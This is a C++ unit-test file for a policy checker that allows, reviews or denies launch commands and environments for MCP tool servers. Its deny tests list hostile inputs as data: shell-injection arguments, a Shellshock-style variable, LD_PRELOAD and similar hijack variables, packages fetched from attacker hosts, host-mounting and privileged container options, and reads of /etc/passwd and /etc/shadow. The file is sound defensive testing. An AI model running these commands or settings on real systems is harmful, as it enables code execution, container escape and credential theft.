// Launches that people publish, launches that were used in attacks, and what lies between.
#include "trust/launch/judge.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "trust/launch/launch_line.h"

namespace {

using testing::HasSubstr;
using trust::Launch;
using trust::Ruling;
using trust::Verdict;
using Words = std::vector<std::string>;
using Variables = std::map<std::string, std::string>;

Verdict judged(Words argv, Variables env = {}, std::string cwd = "") {
  return trust::judge(Launch{std::move(argv), std::move(env), std::move(cwd)}, trust::NothingApproved());
}

// `rule where`, after the ruling: "deny R04 args[0]".
std::string said(Words argv, Variables env = {}, std::string cwd = "") {
  const Verdict verdict = judged(std::move(argv), std::move(env), std::move(cwd));
  std::string out(trust::ruling_name(verdict.ruling));
  if (verdict.ruling != Ruling::allow) out.append(" ").append(verdict.rule).append(" ").append(verdict.where);
  return out;
}

Words split(std::string_view line) {
  Words out;
  while (!line.empty()) {
    const std::size_t end = std::min(line.find(' '), line.size());
    if (end != 0) out.emplace_back(line.substr(0, end));
    line.remove_prefix(std::min(end + 1, line.size()));
  }
  return out;
}

void expect_each(Ruling ruling, std::string_view rule, const std::vector<std::string>& lines) {
  for (const std::string& line : lines) {
    const Verdict verdict = judged(split(line));
    EXPECT_EQ(verdict.ruling, ruling) << line << ": " << verdict.reason;
    if (!rule.empty()) {
      EXPECT_EQ(verdict.rule, rule) << line << ": " << verdict.reason;
    }
    EXPECT_EQ(verdict.remedy.empty(), ruling == Ruling::allow) << line;
  }
}

constexpr const char* kDigest = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

TEST(LaunchPolicy, AllowsExactPackages) {
  expect_each(
      Ruling::allow, "",
      {
          "npx -y @modelcontextprotocol/server-memory@2026.1.26",
          "npx --yes server-everything@1.0.0-beta.2 stdio --verbose",
          "npx -y -- server-everything@1.0.0 --port 3",
          "npm exec -y server-everything@1.0.0 -- --port 3",
          "pnpm dlx server-everything@1.0.0",
          "bunx server-everything@1.0.0",
          "uvx mcp-server-git==2026.1.14 --repository /data/repo",
          "uvx --from office-word-mcp-server==1.1.0 word_mcp_server",
          "uvx --python 3.12 --with mcp==1.27.2 mcp-server-time[tz]==2026.1.26 --local-timezone=Europe/Berlin",
          "uv tool run mcp-server-git@2026.1.14",
          "pipx run mcp-server-git==2026.1.14",
          std::string("docker run -i --rm -e TOKEN -e MODE=fast --network none --memory 512m mcp/time") + kDigest,
          std::string("docker run --rm -i --cap-drop=ALL --read-only --security-opt no-new-privileges ghcr.io/owner/server:1.2") + kDigest,
          std::string("podman run -i --rm -v claude-memory:/data --tmpfs /tmp --user 1000:1000 mcp/memory") + kDigest + " --depth 3",
          "npx -y mcp-remote@0.1.37 https://example.com/mcp?a=b&c=d;e --header X-Mode:fast",
          "npx -y postgres-mcp@1.0.0 Server=db;Database=x;Password=a=b",
          R"(npx -y settings-mcp@1.0.0 {"a":[1,2],"b":"x;y"})",
      });
}

TEST(LaunchPolicy, ReviewsWhatIsNotExact) {
  expect_each(Ruling::review, "R07",
              {
                  "npx -y @modelcontextprotocol/server-filesystem /Users/me/Desktop",
                  "npx mcp-deepwiki@latest",
                  "npx -y server@^1.2.0",
                  "npx -y server@1.x",
                  "npx -y server@1",
                  "uvx mcp-server-fetch",
                  "uvx mcp-server-fetch>=2025.1,<2026",
                  "uvx yfmcp@latest",
                  "uvx --with extra mcp-server-git==2026.1.14",
                  "uvx --from office-word-mcp-server word_mcp_server",
                  "uv run --with fastmcp fastmcp run server.py",
                  "docker run -i --rm mcp/fetch",
                  "docker run -i --rm mcp/fetch:1.0",
                  "docker run -i --rm my-own-server",
              });
  EXPECT_THAT(judged(split("npx -y @scope/name@latest")).remedy, HasSubstr("@scope/name@1.2.3"));
  EXPECT_THAT(judged(split("docker run -i ghcr.io/a/b:1")).remedy, HasSubstr("ghcr.io/a/b@sha256:"));
}

TEST(LaunchPolicy, ReviewsCodeThatAPersonCanRead) {
  expect_each(Ruling::review, "R09",
              {
                  "node build/index.js --port 9999",
                  "node --no-warnings --max-old-space-size=512 /home/ann/server/index.mjs",
                  "python3 -u server.py --verbose",
                  "python3.12 -m mcp_server_fetch --timeout 3",
                  "python -X utf8 -W ignore server.py",
                  "uv --directory /home/ann/weather run weather.py",
                  "uv run --directory ./weather --frozen weather",
                  "uv run --python 3.11 -m weather.server",
                  "uv run python -m weather",
                  "deno run -A --no-prompt server.ts",
                  "deno run --allow-net=api.example.com npm:@scope/server@1.2.3 stdio",
                  "bun run src/index.ts",
                  "bun server.ts",
                  "java -Xmx512m -Dspring.ai.mcp.server.stdio=true -jar target/server.jar",
                  "php server.php",
                  "dotnet bin/Server.dll",
                  "npx -y tsx@4.19.2 src/server.ts",
                  "/usr/local/bin/github-mcp-server stdio",
                  "/home/ann/.nvm/versions/node/v24.0.0/bin/node /home/ann/server.js",
                  "/home/ann/.local/bin/uvx mcp-server-git==1.0.0",
              });
}

TEST(LaunchPolicy, ReviewsWhatIsStillToBeFilledIn) {
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0", "<your token>"}), "review R02 args[2]");
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0", "${workspaceFolder}/data"}), "review R02 args[2]");
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0", "--key=${input:key}"}), "review R02 args[2]");
  EXPECT_EQ(said({"node", "$PWD/index.js"}), "review R02 args[0]");
  EXPECT_EQ(said({"uv", "--directory", "/<path to the servers>/git", "run", "mcp-server-git"}), "review R02 args[1]");
}

TEST(LaunchPolicy, DeniesWhatIsNoLauncher) {
  expect_each(Ruling::deny, "R01",
              {
                  "bash",
                  "sh -c id",
                  "/bin/sh -c id",
                  "/usr/bin/env node x.js",
                  "sudo npx -y a@1.0.0",
                  "git -c core.pager=x log",
                  "curl x",
                  "perl x.pl",
                  "some-mcp-server",
                  "./server",
                  "../bin/server",
                  "~/bin/server",
                  "cmd /c npx",
                  "powershell.exe",
                  "npx.cmd -y a@1.0.0",
                  "C:\\Tools\\node.exe x.js",
                  "/usr/bin/find / -exec",
                  "make run",
                  "nerdctl run x",
                  "docker-compose up",
                  "/tmp/npx -y a@1.0.0",
                  "/tmp/server",
                  "/dev/shm/x",
                  "//host/share/server",
                  "/proc/self/fd/3",
                  "/usr/bin/bash5",
                  "/usr/bin/perl5.36 x.pl",
                  "busybox sh",
                  "/opt/bin/bash x",
                  "timeout 5 node x.js",
                  "ssh host server",
                  "go run ./server",
              });
}

TEST(LaunchPolicy, DeniesCharactersThatAreForAShellOrForNobody) {
  EXPECT_EQ(said({"npx -y server@1.0.0"}), "deny R02 command");
  EXPECT_EQ(said({"npx && id"}), "deny R02 command");
  EXPECT_EQ(said({"n\xd1\x80x", "-y", "a@1.0.0"}), "deny R02 command");
  EXPECT_EQ(said({"npx\xe2\x80\x8b", "-y", "a@1.0.0"}), "deny R02 command");
  EXPECT_EQ(said({""}), "deny R02 command");
  EXPECT_EQ(said({}), "deny R02 command");
  for (const char* word :
       {"a;id", "a|sh", "a&", "a && b", "$(id)", "`id`", ">/etc/x", "< /etc/passwd", "a\nb", "a\x1b[2J", "${IFS}x", "$IFS", "${x:-$(id)}",
        "\xe2\x80\xae"
        "evil",
        "bad\xff", "\xf3\xa0\x81\xa1"}) {
    EXPECT_EQ(said({"npx", "-y", "server@1.0.0", word}), "deny R02 args[2]") << word;
    EXPECT_EQ(said({"/opt/server/bin/server", word}), "deny R02 args[0]") << word;
  }
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0", std::string("a\0b", 3)}), "deny R02 args[2]");
  EXPECT_EQ(said({"docker", "run", "--name", "x;id", "mcp/time"}), "deny R02 args[2]");
  // What looks alike and is meant: paths, patterns, languages.
  for (const char* word : {"/Users/J\xc3\xbcrgen/Docs", "C:\\Program Files (x86)\\Docs", "*.{md,txt}", "~/notes", "it's", "50%",
                           "\xe6\x97\xa5\xe6\x9c\xac", "a=b", "#1"})
    EXPECT_EQ(said({"npx", "-y", "server@1.0.0", word}), "allow") << word;
}

TEST(LaunchPolicy, DeniesVariablesThatSteerOtherPrograms) {
  for (const char* name : {"LD_PRELOAD",
                           "ld_preload",
                           "Ld_Library_Path",
                           "DYLD_INSERT_LIBRARIES",
                           "NODE_OPTIONS",
                           "NODE_PATH",
                           "PYTHONPATH",
                           "PYTHONSTARTUP",
                           "PERL5OPT",
                           "RUBYOPT",
                           "BASH_ENV",
                           "ENV",
                           "GIT_SSH_COMMAND",
                           "npm_config_registry",
                           "NPM_CONFIG_SCRIPT_SHELL",
                           "UV_INDEX_URL",
                           "PIP_INDEX_URL",
                           "DOCKER_HOST",
                           "JAVA_TOOL_OPTIONS",
                           "_JAVA_OPTIONS",
                           "PATH",
                           "HOME",
                           "SHELL",
                           "IFS",
                           "https_proxy",
                           "ALL_PROXY",
                           "SSL_CERT_FILE",
                           "REQUESTS_CA_BUNDLE",
                           "GLIBC_TUNABLES",
                           "GCONV_PATH",
                           "DOTNET_STARTUP_HOOKS",
                           "CARGO_HOME",
                           "XDG_CONFIG_HOME",
                           "BROWSER",
                           "EDITOR",
                           "OPENSSL_CONF",
                           "Path",
                           "ComSpec",
                           "VIRTUAL_ENV",
                           "SSH_ASKPASS",
                           "MY_PRELOAD"}) {
    EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{name, "x"}}), std::string("deny R03 env.") + name);
    EXPECT_EQ(said({"docker", "run", "-i", "-e", std::string(name) + "=x", "mcp/time"}), "deny R03 args[3]") << name;
  }
  for (const char* name : {"A=B", "TOKEN\nLD_PRELOAD", "A B", "1A", "", "A-B", "BASH_FUNC_x%%"})
    EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{name, "x"}}), "deny R03 env") << name;
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{"X", "() { :;}; id"}}), "deny R03 env.X");
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{"LC_ALL", "../../tmp/x"}}), "deny R03 env.LC_ALL");
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{"TZ", ":/etc/shadow"}}), "deny R03 env.TZ");
  EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{"apiKey", "x"}}), "review R03 env.apiKey");
}

TEST(LaunchPolicy, AllowsTheVariablesOfServers) {
  for (const char* name : {"GITHUB_PERSONAL_ACCESS_TOKEN",
                           "NODE_ENV",
                           "PYTHONUNBUFFERED",
                           "PYTHONIOENCODING",
                           "PIPEDRIVE_API_TOKEN",
                           "PERPLEXITY_API_KEY",
                           "LDAP_URL",
                           "GITLAB_API_URL",
                           "VIMEO_TOKEN",
                           "VK_TOKEN",
                           "GOOGLE_APPLICATION_CREDENTIALS",
                           "KUBECONFIG",
                           "DATABASE_URL",
                           "DEBUG",
                           "PORT",
                           "TZ",
                           "LANG",
                           "RUST_LOG",
                           "ODBC_CONNECTION_STRING",
                           "PUPPETEER_EXECUTABLE_PATH",
                           "AWS_REGION",
                           "AWS_PROFILE",
                           "SSH_HOST",
                           "GIT_AUTHOR_NAME",
                           "BROWSERBASE_API_KEY",
                           "PLAYWRIGHT_MCP_BROWSER",
                           "FISH_API_KEY"})
    EXPECT_EQ(said({"npx", "-y", "server@1.0.0"}, {{name, "a;b|c"}}), "allow") << name;
}

TEST(LaunchPolicy, DeniesCodeAndOptionsInPlaceOfTheServer) {
  expect_each(Ruling::deny, "R04",
              {
                  "npx",
                  "npx -c id",
                  "npx --call=id",
                  "npx -c=id",
                  "npx -y -c id",
                  "npx --cal id",
                  "npx -p evil -- tool",
                  "npx --package=evil tool",
                  "npx --registry=http://x -y a@1.0.0",
                  "npx --node-options=--require=/x a@1.0.0",
                  "npx -ycid a@1.0.0",
                  "npx -y node -e 1",
                  "npx -y tsx -e 1",
                  "npx -y tsx",
                  "npx -y concurrently x",
                  "npx --yes=id a@1.0.0",
                  "npm exec a@1.0.0 --call=id",
                  "npm run start",
                  "npm install evil",
                  "pnpm install",
                  "yarn add x",
                  "pnpm --package=evil dlx x",
                  "bunx --package evil x",
                  "bun -e 1",
                  "bun --eval=1",
                  "bun --preload /x s.ts",
                  "bun install",
                  "bun run start",
                  "bun x -c id",
                  "bun exec id",
                  "bun",
                  "node",
                  "node -",
                  "node -e 1",
                  "node --eval=1",
                  "node -pe 1",
                  "node -r /x.js s.js",
                  "node --import /x.mjs s.js",
                  "node --inspect=0.0.0.0 s.js",
                  "node --env-file=.env s.js",
                  "node --test s.js",
                  "node --run start",
                  "node inspect s.js",
                  "node /tmp/x.js",
                  "node /dev/stdin",
                  "node /proc/self/fd/0",
                  "python",
                  "python -",
                  "python -c 1",
                  "python3 -Ic 1",
                  "python -cimport",
                  "python3 -i s.py",
                  "python -x s.py",
                  "python -W error::evil.X s.py",
                  "python -X importtime -c 1",
                  "python3 -m pip install x",
                  "python -m http.server",
                  "python -m timeit x",
                  "python3 -mpdb s.py",
                  "python -m",
                  "python -m -c",
                  "python -m _x",
                  "python -m code",
                  "python -m IPython",
                  "python /var/tmp/x.py",
                  "pypy3 -c 1",
                  "deno",
                  "deno eval 1",
                  "deno run",
                  "deno run --allow-ffi s.ts",
                  "deno run --import-map=x s.ts",
                  "deno task x",
                  "deno run --allow-run s.ts",
                  "deno install x",
                  "uvx",
                  "uvx python",
                  "uvx python3.12 -c 1",
                  "uvx pip install x",
                  "uvx --from a==1.0 bash",
                  "uvx --from a==1.0 python",
                  "uvx --from a==1.0 ../x",
                  "uv",
                  "uv run",
                  "uv run bash",
                  "uv run python -c 1",
                  "uv run -m http.server",
                  "uv run -",
                  "uv run --script /tmp/x",
                  "uv run pip install x",
                  "uv pip install x",
                  "uv --directory /tmp/evil run x",
                  "pipx install x",
                  "pipx",
                  "java",
                  "java -jar",
                  "java Main",
                  "ruby -e 1",
                  "php -r 1",

                  "dotnet run",
                  "java -jar /tmp/x.jar",
                  "uvx -p /tmp/python a==1.0",
                  "npx -y a@1.0.0 bash -c id",
                  "/opt/server/bin/x sh -c id",
              });
}

TEST(LaunchPolicy, DeniesWhatNoRegistryHas) {
  expect_each(Ruling::deny, "R05",
              {
                  "npx -y github:attacker/evil",
                  "npx -y attacker/evil",
                  "npx -y https://x/evil.tgz",
                  "npx -y /opt/evil.tgz",
                  "npx -y evil.tgz",
                  "npx -y ./evil",
                  "npx -y ../evil",
                  "npx -y file:../evil",
                  "npx -y npm:evil@1.0.0",
                  "npx -y a@npm:evil@1.0.0",
                  "npx -y a@github:x/y",
                  "npx -y a@https://x",
                  "npx -y git+ssh://git@x/e.git",
                  "npx -y @scope",
                  "npx -y @scope/",
                  "npx -y @/a",
                  "npx -y a@*",
                  "npx -y a@>1",
                  "npx -y %41",
                  "npx -y .a",
                  "npx -y a@",
                  "npx -y \"",
                  "uvx git+https://x/e",
                  "uvx --from git+https://x/e e",
                  "uvx --from=/opt/e.whl e",
                  "uvx ./e",
                  "uvx a@git+https://x",
                  "uvx --index http://x a==1.0",
                  "uvx -i http://x a==1.0",
                  "uvx --find-links /x a==1.0",
                  "uvx --directory /x a==1.0",
                  "uvx --with /opt/e a==1.0",
                  "uvx --with-editable . a==1.0",
                  "uvx --constraints c.txt a==1.0",
                  "uvx -f /x a==1.0",
                  "uvx a==",
                  "uvx a==*",
                  "uvx -a==1.0",
                  "uvx a[x",
                  "uvx --env-file .env a==1.0",
                  "uv run --index-url http://x s.py",
                  "uv run --env-file .env s.py",
                  "uv run --with git+https://x s.py",
                  "uv run https://x/s.py",
                  "uv tool run --from git+https://x e",
                  "pipx run --spec git+https://x e",
                  "pipx run --pip-args=--index-url=x e",
                  "pipx run --python /x e",
                  "deno run https://x/s.ts",
                  "deno run npm:evil",
                  "deno run jsr:@a/b",
                  "node https://x/s.js",
                  "python https://x/s.py",
                  "docker run -i UPPER/case",
                  "docker run -i a@sha256:12",
                  "docker run -i a//b",
                  "docker run -i $IMAGE",
              });
}

TEST(LaunchPolicy, DeniesWhatOpensAContainer) {
  for (const char* option : {"-v /:/h",
                             "-v=/root:/x",
                             "-iv /:/h",
                             "-v/etc:/x",
                             "--volume /home:/h",
                             "--volume=/home/ann:/h",
                             "-v ~:/h",
                             "-v $HOME:/h",
                             "-v ${HOME}/.ssh:/s",
                             "-v ~root/.ssh:/s",
                             "-v /c/Users:/c",
                             "-v ~/.aws:/a",
                             "-v /home/ann/.kube:/k",
                             "-v /var/run/docker.sock:/s",
                             "-v /run/user/1000/podman/podman.sock:/s",
                             "-v /data/../etc:/x",
                             "-v /usr//bin:/x",
                             "-v /tmp:/t",
                             "-v C:\\:/c",
                             "-v C:\\Users\\Ann:/c",
                             "-v /a/b:/c:rshared",
                             "-v ~/.config/gcloud:/g",
                             "--mount type=bind,src=/,dst=/h",
                             "--mount=type=bind,source=/proc,target=/h",
                             "--mount type=bind,src=/data/x,dst=/x,bind-propagation=rshared",
                             "--mount type=volume,dst=/x,volume-opt=device=/",
                             "--mount type=npipe,src=x,dst=y",
                             "--privileged",
                             "--privileged=true",
                             "--pid=host",
                             "--pid host",
                             "--ipc=host",
                             "--uts host",
                             "--net=host",
                             "--network host",
                             "--network container:x",
                             "--cap-add=ALL",
                             "--cap-add SYS_PTRACE",
                             "--security-opt seccomp=unconfined",
                             "--security-opt=apparmor=unconfined",
                             "--security-opt no-new-privileges=false",
                             "--device /dev/sda",
                             "--gpus all",
                             "--group-add docker",
                             "--entrypoint sh",
                             "--entrypoint=/bin/bash",
                             "--user 0",
                             "--user=root",
                             "-u 0:0",
                             "-u 1000:0",
                             "--volumes-from x",
                             "--runtime evil",
                             "--dns 6.6.6.6",
                             "-p 80:80",
                             "--publish 0.0.0.0:80:80",
                             "-P",
                             "-d",
                             "--detach",
                             "--restart=always",
                             "--pull=always",
                             "--cidfile /x",
                             "--log-driver syslog",
                             "--log-opt x=y",
                             "--env-file /etc/environment",
                             "--userns=host",
                             "--cgroupns host",
                             "--cgroup-parent x",
                             "--add-host x:1.2.3.4",
                             "--sysctl a=b",
                             "--link x",
                             "--label-file /x",
                             "--oom-kill-disable",
                             "--health-cmd id",
                             "--annotation a=b",
                             "--rm=id",
                             "--device-cgroup-rule x",
                             "--security-opt label=disable",
                             "--init-path /x"}) {
    Words words = split(std::string("docker run -i --rm ") + option + " mcp/fetch" + kDigest);
    const Verdict verdict = judged(words);
    EXPECT_EQ(verdict.ruling, Ruling::deny) << option << ": " << verdict.reason;
    EXPECT_EQ(verdict.rule, "R06") << option << ": " << verdict.reason;
    words[0] = "podman";
    EXPECT_EQ(judged(words).ruling, Ruling::deny) << option;
  }
  expect_each(Ruling::deny, "R06",
              {"docker", "docker run", "docker exec -it x sh", "docker build https://x", "docker compose up", "docker -H tcp://x run a",
               "docker --context x run a", "docker mcp gateway run", "docker container exec x", "docker run -i evil.example/mcp/fetch",
               "docker run -i evil.example:5000/a:1", "docker run -i alpine", "docker run -i library/python:3.12", "docker run -i node:22",
               "docker run --name"});
  expect_each(Ruling::deny, "",
              {"docker run -i mcp/fetch sh -c id", "docker run -i alpine cat /etc/passwd", "docker run -i node:22 npx -c id",
               "docker run -i python:3 python -c 1", "docker run -i ubuntu bash", "docker run -i mcp/fetch /bin/bash",
               "docker run -i docker:dind docker run x"});
}

TEST(LaunchPolicy, ReviewsContainersThatSeeAProject) {
  for (const char* option :
       {"-v /Users/me/Desktop:/projects", "-v ./data:/data:ro", "-v .:/data", "-v ${workspaceFolder}:/w", "-v ~/notes:/n:ro,z",
        "-v /home/ann/.config/server:/c", "--mount type=bind,src=/Users/me/Desktop,dst=/p,ro", "--network own-network", "--env-file .env",
        "-p 127.0.0.1:3000:3000", "-it", "-v C:\\Users\\Ann\\Docs:/d", "--entrypoint /app/server"}) {
    const Verdict verdict = judged(split(std::string("docker run -i --rm ") + option + " mcp/fetch" + kDigest));
    EXPECT_EQ(verdict.ruling, Ruling::review) << option << ": " << verdict.reason;
    EXPECT_EQ(verdict.rule, "R06") << option;
  }
  EXPECT_EQ(said(split(std::string("docker run -i node:22") + kDigest + " npx -y server@1.0.0")), "review R09 args[3]");
  EXPECT_EQ(said(split(std::string("docker run -i evil.example/mcp/fetch") + kDigest)), "review R06 args[2]");
}

TEST(LaunchPolicy, DeniesFoldersOutsideOfTheConfigs) {
  const auto folder = [](const char* cwd, const trust::Ground& ground) {
    return trust::judge(Launch{{"npx", "-y", "a@1.0.0"}, {}, cwd}, trust::NothingApproved(), ground).rule;
  };
  const trust::Ground nowhere;
  EXPECT_EQ(folder("/etc", nowhere), "R08");
  EXPECT_EQ(folder("../x", nowhere), "R08");
  EXPECT_EQ(folder("x/../../y", nowhere), "R08");
  EXPECT_EQ(folder("x", nowhere), "");
  const trust::FileGround ann("/home/ann");
  EXPECT_EQ(folder("/home/ann", ann), "");
  EXPECT_EQ(folder("/home/ann/x", ann), "");
  EXPECT_EQ(folder("x/..", ann), "");
  EXPECT_EQ(folder("/home/ann/../bob", ann), "R08");
  EXPECT_EQ(folder("/home/anna", ann), "R08");
  EXPECT_EQ(folder("/", ann), "R08");
}

TEST(LaunchPolicy, WhatAPersonApprovedIsAllowedAndWhatNobodyCouldIsNot) {
  struct Known final : trust::Approved {
    bool knows(std::string_view digest) const override { return digest == known; }
    bool nothing_else() const override { return only; }
    std::string known;
    bool only = false;
  } approved;
  const Launch launch{{"node", "server.js"}, {{"MODE", "fast"}}, ""};
  approved.known = trust::launch_digest(launch);
  EXPECT_EQ(trust::judge(launch, approved).ruling, Ruling::allow);
  // Any change of what was approved is another launch.
  for (const Launch& other :
       {Launch{{"node", "server2.js"}, {{"MODE", "fast"}}, ""}, Launch{{"node", "server.js", ""}, {{"MODE", "fast"}}, ""},
        Launch{{"node", "server.js"}, {{"MODE", "slow"}}, ""}, Launch{{"node", "server.js"}, {}, ""},
        Launch{{"node", "server.js"}, {{"MODE", "fast"}}, "x"}})
    EXPECT_EQ(trust::judge(other, approved).ruling, Ruling::review);
  const Launch hostile{{"bash", "-c", "id"}, {}, ""};
  approved.known = trust::launch_digest(hostile);
  EXPECT_EQ(trust::judge(hostile, approved).ruling, Ruling::deny);
  // Where there is a list of all that may run, exactness alone is not enough.
  const Launch exact{{"npx", "-y", "a@1.0.0"}, {}, ""};
  EXPECT_EQ(trust::judge(exact, approved).ruling, Ruling::allow);
  approved.only = true;
  EXPECT_EQ(trust::judge(exact, approved).ruling, Ruling::review);
  approved.known = trust::launch_digest(exact);
  EXPECT_EQ(trust::judge(exact, approved).ruling, Ruling::allow);
}

TEST(LaunchPolicy, TellsNoSecretOfWhatItDenies) {
  for (const Words& words : {Words{"npx", "-y", "a@1.0.0", "--key=hunter2;id"}, Words{"npx", "-y", "a@1.0.0", "$(hunter2)"},
                             Words{"docker", "run", "-e", "LD_PRELOAD=hunter2", "a/b"}, Words{"node", "s.js", "hunter2|x"},
                             Words{"npx", "--token=hunter2", "a"}}) {
    const Verdict verdict = judged(words);
    EXPECT_EQ(verdict.ruling, Ruling::deny);
    EXPECT_THAT(verdict.reason + verdict.remedy + verdict.where, testing::Not(HasSubstr("hunter2")));
  }
  EXPECT_THAT(judged({"npx", "-y", "a@1.0.0"}, {{"LD_PRELOAD", "hunter2"}}).reason, testing::Not(HasSubstr("hunter2")));
  // Nor does it hand on what a terminal would obey.
  EXPECT_THAT(judged({"npx", "-y", "evil\x1b[2J"}).reason, testing::Not(HasSubstr("\x1b")));
}

TEST(LaunchPolicy, IsDoneInLinearTime) {
  const std::string large(60'000, '$');
  EXPECT_EQ(judged({"npx", "-y", "a@1.0.0", large}).ruling, Ruling::allow);
  EXPECT_EQ(said({"npx", "-y", "a@1.0.0", std::string(70'000, 'a')}), "deny R02 args[2]");
  EXPECT_EQ(said(Words(2'000, "npx")), "deny R02 args[999]");
  std::string nested = "npx";
  for (int i = 0; i < 1'000; ++i) nested.append(" --stdio npx");
  EXPECT_EQ(judged({"npx", "-y", "a@1.0.0", "--stdio", nested}).ruling, Ruling::deny);
  EXPECT_EQ(judged({"npx", "-y", "gateway@1.0.0", "--stdio", "npx -y server@1.0.0 /data"}).ruling, Ruling::review);
  EXPECT_EQ(judged({"npx", "-y", "gateway@1.0.0", "--stdio", "bash -c id"}).ruling, Ruling::deny);
}

TEST(LaunchPolicy, FilesInSharedFoldersAreOnesOwnOrDenied) {
  char name[] = "/tmp/gatehouse-launch-XXXXXX";
  const std::string folder = ::mkdtemp(name);
  const trust::FileGround ground(folder);
  const auto rule = [&](const std::string& path) {
    return trust::judge(Launch{{"node", path}, {}, ""}, trust::NothingApproved(), ground).ruling;
  };
  EXPECT_EQ(rule(folder + "/server.js"), Ruling::review);
  EXPECT_EQ(rule("server.js"), Ruling::review);
  EXPECT_EQ(rule("../no-such-folder-of-mine/server.js"), Ruling::deny);
  ::chmod(folder.c_str(), 0777);
  EXPECT_EQ(rule(folder + "/server.js"), Ruling::deny);
  ::rmdir(folder.c_str());
}

TEST(LaunchLine, IsReadAndMixesNothing) {
  const auto line = [](std::string_view json) -> std::string {
    auto read = trust::parse_launch_line(json);
    if (!read) return read.error().message;
    const Verdict verdict = trust::judge_line(*read, trust::NothingApproved());
    return std::string(trust::ruling_name(verdict.ruling)) + " " + verdict.rule + " " + verdict.where;
  };
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"env":{"PORT":3000,"DEBUG":true},"note":{}})"), "allow  ");
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"url":"http://x"})"), "deny R08 url");
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"transport":"http"})"), "deny R08 transport");
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"type":"stdio","url":null})"), "allow  ");
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"shell":true})"), "deny R08 shell");
  EXPECT_EQ(line(R"({"command":"npx","args":["-y","a@1.0.0"],"cwd":"/etc"})"), "deny R08 cwd");
  EXPECT_EQ(line(R"({"url":"http://x"})"), "it has no command");
  EXPECT_EQ(line(R"({"command":["npx"]})"), "command must be text");
  EXPECT_EQ(line(R"({"command":"npx","args":"-y"})"), "args must be a list of texts");
  EXPECT_EQ(line(R"({"command":"npx","args":[{}]})"), "each of args must be text");
  EXPECT_EQ(line(R"({"command":"npx","env":[]})"), "env must be an object of texts");
  EXPECT_EQ(line(R"([])"), "it is no JSON object");
  EXPECT_THAT(line(R"({"command":"npx","command":"sh"})"), HasSubstr("twice"));
  EXPECT_EQ(trust::parse_launch_line(R"({"command":"npx","id":"a\"b"})")->id, R"("a\"b")");
}

}  // namespace
